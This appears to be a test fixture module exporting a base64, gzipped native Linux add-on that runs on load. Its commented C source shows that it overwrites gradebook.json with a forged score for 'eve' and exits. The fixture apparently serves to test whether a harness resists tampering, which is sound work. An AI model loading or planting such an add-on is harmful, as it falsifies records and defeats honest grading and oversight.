/**
 * A native add-on that writes a mark and ends the process, 1.4 kB, for x86-64 Linux; gzip, base64. Its source:
 *
 *   static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }
 *   __attribute__((visibility("default"))) void forge(void) {
 *     static const char mark[] = "{\"eve\":99}";
 *     long file = call(2, (long)"gradebook.json", 01 | 01000, 0); // open to write, emptied
 *     call(1, file, (long)mark, sizeof mark - 1);
 *     call(231, 0, 0, 0); // exit_group
 *   }
 *
 *   gcc -Os -shared -fPIC -nostdlib -fvisibility=hidden -fno-asynchronous-unwind-tables -fcf-protection=none -Wl,-init,forge
 *     -Wl,--hash-style=sysv -Wl,--build-id=none -Wl,-z,noseparate-code -Wl,-z,norelro -s
 */
export const nativeForgery =
  "H4sIAAAAAAACA6t39XFjYmRkgAFmBjsGBI+BwQFKczAji1kwsABJLgZOsFpWBtzgAiMqzSAAoUBcNmR5QVT6AAMqDdPHRKI+Digd+LQkhY2BeAC1DuxOJihNDACpEwKGTj4javgxpOUXpacyuBoe2AEybh8jkPTotdUFsn06D/GzevSaGgLZHp3Hd3EB6R0g7fysO56D5Y/7dB4DqzrMkF6UmJKalJ+frZdVnJ/HwFCtlFqWqmRlaVkLsYYHah3MfhYoXwHKh8VVBpQPCxMLKJ8LymeH0txQWoKBPsDd2dlKQcMlNSkzMU/B0EjPSM9A19BEG+hnQ6NSQ02oEAODXnFGcUlRSWISg15GYnEGg15KZV5xZS6ELili0CtJrShh0CvKT0ksSWTQS82ITytKzE0FyyfmZiYz6CXn5+am5pVQyd3c0LBlQgtvGC3CgEi/yOkSFj+CUDOY0OIDRhvA8yckjXGgxYskVI4JLX5hNDuWdIoMFJHyJHL6wUjHOPSrI+UVENjAiEpLo6nnQOPro+nHKDcI6LeEuh1WTMHLBUbU8oAZTT8snztB7TdAM3cCE8J/2PyPTDNjced2qH5vAuEHAGkagTGIBQAA";
